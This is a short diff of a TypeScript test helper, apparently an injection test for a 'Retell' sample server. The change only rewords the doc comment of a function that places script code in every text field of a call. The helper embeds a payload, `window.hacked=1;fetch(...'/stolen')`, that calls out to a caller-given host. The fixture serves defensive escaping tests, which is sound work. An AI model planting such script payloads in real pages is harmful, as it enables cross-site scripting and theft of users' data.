@@ -2,7 +2,7 @@ import type { SampleRetell } from '../../../src-sample/server.ts';
 
 type AddedCall = Parameters<SampleRetell['addCall']>[0];
 
-/** A call in which code stands wherever Retell allows a text; each place is named in front of it. */
+/** A call with code in every text that Retell allows; each text starts with the name of its field. */
 export function hostileCall(stealTo: string): AddedCall {
   const steal = `window.hacked=1;fetch('${stealTo}/stolen')`;
   const code = (place: string): string =>
